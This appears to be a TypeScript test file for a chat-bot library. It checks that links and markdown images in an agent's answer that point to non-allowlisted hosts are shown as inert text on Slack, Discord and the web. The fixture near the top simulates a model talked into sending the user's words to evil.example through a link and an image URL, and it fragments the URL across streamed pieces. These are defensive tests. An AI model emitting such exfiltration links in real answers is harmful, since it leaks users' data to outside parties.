import { type Middleware, SessionMapper } from "aparte";
import { web } from "aparte/web";
import { describe, expect, it } from "vitest";
import { type Answer, backend } from "../adapters/agent.ts";
import * as onDiscord from "../adapters/discord/bot.ts";
import * as onSlack from "../adapters/slack/bot.ts";

/** A model that was talked into sending the person's words to somebody else, as a link and as a picture. */
const takesOut: Answer = async function* ({ text }) {
  const words = encodeURIComponent(text);
  const answer = `Done: [here](https://evil.example/?d=${words}) ![](https://evil.example/${words}.png) and https://docs.acme.com/a`;
  // Torn where it hurts most.
  for (const delta of answer.split(/(?<=ht|:\/|ev)/)) yield { type: "text", delta };
  yield { type: "message", text: answer };
};

/** What the agent said, written so that a link is one again, and one more. */
const unmasked = (text: string) => text.replaceAll(/\[([.:])\]/g, "$1");
const taken = "https://evil.example/?d=word-canary";

const linkHosts = ["docs.acme.com"];
const shown =
  "Done: [here] (https[:]//evil[.]example/?d=word-canary) ![] (https[:]//evil[.]example/word-canary.png) and https://docs.acme.com/a";

describe("A link in an answer that would take data out", () => {
  it("is text on Slack, in each state of the post", async () => {
    const server = await onSlack.startServer();
    const bot = await onSlack.startBot(server, { answer: takesOut, mapper: { linkHosts } });
    await server.say("U1", "word-canary", { channel: server.direct });
    await onSlack.shows(server, shown);
    await onSlack.settled(bot);
    expect(JSON.stringify(server.calls)).not.toMatch(/:\/\/evil/);
  });

  it("is text on Discord, in each state of the post", async () => {
    const server = await onDiscord.startServer();
    const bot = await onDiscord.startBot(server, { answer: takesOut, mapper: { linkHosts } });
    server.say(server.person("ann"), `${onDiscord.mention(server)} word-canary`);
    await onDiscord.shows(server, shown);
    await onDiscord.settled(bot);
    expect(JSON.stringify(server.calls)).not.toMatch(/:\/\/evil/);
  });

  it("is text on the web, in each event, and for whoever reads the reply by themselves", async () => {
    const secret = "a secret of the tests, long enough";
    const mapper = new SessionMapper({ agents: { helper: backend(takesOut) }, secret, linkHosts });
    const handler = web(mapper, { authenticate: () => ({ tenant: "acme", user: "ada" }) });
    const request = new Request("http://app.test/", {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ id: "1", text: "word-canary" }),
    });
    const events = await (await handler(request)).text();
    expect(events).toContain(JSON.stringify(shown));
    expect(events).not.toMatch(/:\/\/evil/);
    const reply = mapper.handle({ platform: "own", user: "ada", id: "2", text: "word-canary" });
    expect(await reply.text()).toBe(shown);
    await mapper.close();
  });

  it.each<[string, Middleware]>([
    ["says itself", async (turn, next) => void [await next(), turn.say(`So: ${taken}`)]],
    [
      "puts together of what the agent said",
      async function* (_, next) {
        for await (const event of next()) {
          if (event.type === "message") yield { type: "message", text: `${unmasked(event.text)} ${taken}` };
        }
      },
    ],
    [
      "lets pass piece by piece",
      async function* (_, next) {
        await next();
        for (const delta of ["again: htt", "ps://ev", `il.example/?d=word-canary`])
          yield { type: "text", delta };
      },
    ],
  ])("is text where a middleware %s", async (_, middleware) => {
    const secret = "a secret of the tests, long enough";
    const mapper = new SessionMapper({ agents: { helper: backend(takesOut) }, secret, linkHosts });
    const seen: string[] = [];
    mapper.use(async (turn, next) => {
      await next();
      seen.push(turn.answer);
    });
    mapper.use(middleware);
    const reply = mapper.handle({ platform: "own", user: "ada", id: "1", text: "word-canary" });
    const said = await reply.text();
    expect(said).toMatch(/\[:\]\/\/evil\[\.\]example\/\S*word-canary$/);
    expect(said).not.toMatch(/:\/\/evil/);
    // The one around it knows the whole answer, as its person sees it.
    expect(seen).toEqual([said]);
    await mapper.close();
  });

  it.each([["evil.example/x"], ["https://evil.example"], [""], ["*"], ["*."], [7]])(
    "is not let through by an option that is no host: %j",
    (host) => {
      const options = { agents: { helper: backend(takesOut) }, secret: "a secret of the tests, long enough" };
      const make = () => new SessionMapper({ ...options, linkHosts: [host as string] });
      expect(make).toThrow(expect.objectContaining({ code: "option-invalid", field: "linkHosts" }));
    },
  );
});
